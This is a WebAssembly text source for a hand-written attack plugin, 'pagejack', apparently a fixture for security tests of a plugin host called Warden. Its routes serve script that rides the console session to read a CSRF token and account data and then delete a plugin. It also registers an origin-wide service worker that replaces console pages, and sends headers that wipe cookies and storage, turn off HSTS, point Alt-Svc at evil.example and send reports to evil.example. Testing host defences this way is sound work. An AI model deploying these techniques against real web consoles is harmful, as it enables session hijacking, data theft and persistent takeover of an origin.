;; pagejack is a hand-written attack plugin: its custom HTTP routes serve
;; pages meant to take over Warden's web console, which is served from the
;; same origin as plugin routes. GET /page is HTML whose script calls the
;; console's API with the console session of whoever opens the page: it
;; reads the CSRF token and accounts, then removes the echo plugin. GET /sw
;; is HTML that installs a service worker, /sw.js, over the whole origin,
;; which /sw.js asks for with Service-Worker-Allowed: / and which would
;; answer the console's pages itself, even after the plugin is removed;
;; /sw.js also asks, with Clear-Site-Data, to wipe the origin's cookies and
;; storage, the console's session among them, and sends the other headers
;; that act on the whole origin: Strict-Transport-Security (max-age=0 ends
;; the operator's HSTS), Alt-Svc (another server for the origin), and NEL,
;; Report-To and Reporting-Endpoints (reports of the origin's requests,
;; the console's among them, to a place the plugin names).
;; Each page sets document.title to what it achieved, for the browser test
;; (cmd/server/console_pluginpage_test.go; the host's refusal of these
;; headers: host/route_test.go). output_add_header's status is
;; ignored, so /sw.js is served whether or not the host refuses the header.
;; Build: wat2wasm pagejack.wat -o pagejack.wasm.
(module
  (import "warden_v1" "http_register" (func $route (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "warden_v1" "output_write" (func $out (param i32 i32) (result i32)))
  (import "warden_v1" "output_add_header" (func $header (param i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 64) "GET")
  (data (i32.const 75) "/page")
  (data (i32.const 88) "/sw")
  (data (i32.const 99) "/sw.js")
  (data (i32.const 113) "Content-Type")
  (data (i32.const 133) "text/html; charset=utf-8")
  (data (i32.const 165) "text/javascript")
  (data (i32.const 188) "Service-Worker-Allowed")
  (data (i32.const 218) "/")
  (data (i32.const 227) "Clear-Site-Data")
  (data (i32.const 250) "\22cookies\22, \22storage\22")
  (data (i32.const 278) "Strict-Transport-Security")
  (data (i32.const 311) "max-age=0")
  (data (i32.const 328) "Alt-Svc")
  (data (i32.const 343) "h2=\22evil.example:443\22")
  (data (i32.const 372) "NEL")
  (data (i32.const 383) "{\22report_to\22:\22p\22,\22max_age\22:86400,\22success_fraction\22:1}")
  (data (i32.const 445) "Report-To")
  (data (i32.const 462) "{\22group\22:\22p\22,\22max_age\22:86400,\22endpoints\22:[{\22url\22:\22https://evil.example/r\22}]}")
  (data (i32.const 546) "Reporting-Endpoints")
  (data (i32.const 573) "p=\22https://evil.example/r\22")
  (data (i32.const 607) "<!doctype html><title>loading</title><script>\0aconst step = async (f) => { try { return await f(); } catch (e) { return 'error'; } };\0a(async () => {\0a  const me = await step(async () => (await fetch('/_warden/console/api/me')).json());\0a  const csrf = me && me.csrf ? me.csrf : '';\0a  const acc = await step(async () => (await fetch('/_warden/console/api/accounts?q=carol')).text());\0a  const del = await step(async () => (await fetch('/_warden/console/api/plugins/echo',\0a    { method: 'DELETE', headers: { 'X-Warden-CSRF': csrf } })).status);\0a  document.title = 'done origin=' + self.origin + ' csrf=' + (csrf ? 'read' : 'none') +\0a    ' accounts=' + (String(acc).includes('carol') ? 'read' : 'none') + ' delete=' + del;\0a})();\0a</script>\0a")
  (data (i32.const 1347) "<!doctype html><title>loading</title><script>\0aconst failed = (e) => { document.title = 'sw failed ' + e.name; };\0atry {\0a  navigator.serviceWorker.register('/sw.js', { scope: '/' })\0a    .then(() => navigator.serviceWorker.ready)\0a    .then(() => { document.title = 'sw ready'; }, failed);\0a} catch (e) { failed(e); }\0a</script>\0a")
  (data (i32.const 1678) "self.addEventListener('install', () => self.skipWaiting());\0aself.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));\0aself.addEventListener('fetch', (e) => {\0a  if (new URL(e.request.url).pathname.startsWith('/_warden/console/')) {\0a    e.respondWith(new Response('<title>console replaced by the plugin</title>',\0a      { headers: { 'Content-Type': 'text/html' } }));\0a  }\0a});\0a")

  (func (export "warden_abi_v1"))

  (func (export "warden_init") (result i32)
    (drop (call $route (i32.const 75) (i32.const 5) (i32.const 64) (i32.const 3) (i32.const 1) (i32.const 0)))
    (drop (call $route (i32.const 88) (i32.const 3) (i32.const 64) (i32.const 3) (i32.const 2) (i32.const 0)))
    (drop (call $route (i32.const 99) (i32.const 6) (i32.const 64) (i32.const 3) (i32.const 3) (i32.const 0)))
    (i32.const 0))

  (func (export "warden_handle") (param $id i32) (param i32) (result i32)
    (if (i32.eq (local.get $id) (i32.const 1)) (then
      (drop (call $header (i32.const 113) (i32.const 12) (i32.const 133) (i32.const 24)))
      (drop (call $out (i32.const 607) (i32.const 732)))
      (return (i32.const 0))))
    (if (i32.eq (local.get $id) (i32.const 2)) (then
      (drop (call $header (i32.const 113) (i32.const 12) (i32.const 133) (i32.const 24)))
      (drop (call $out (i32.const 1347) (i32.const 323)))
      (return (i32.const 0))))
    (if (i32.eq (local.get $id) (i32.const 3)) (then
      (drop (call $header (i32.const 113) (i32.const 12) (i32.const 165) (i32.const 15)))
      (drop (call $header (i32.const 188) (i32.const 22) (i32.const 218) (i32.const 1)))
      (drop (call $header (i32.const 227) (i32.const 15) (i32.const 250) (i32.const 20)))
      (drop (call $header (i32.const 278) (i32.const 25) (i32.const 311) (i32.const 9)))
      (drop (call $header (i32.const 328) (i32.const 7) (i32.const 343) (i32.const 21)))
      (drop (call $header (i32.const 372) (i32.const 3) (i32.const 383) (i32.const 54)))
      (drop (call $header (i32.const 445) (i32.const 9) (i32.const 462) (i32.const 76)))
      (drop (call $header (i32.const 546) (i32.const 19) (i32.const 573) (i32.const 26)))
      (drop (call $out (i32.const 1678) (i32.const 392)))
      (return (i32.const 0))))
    (i32.const 5)))
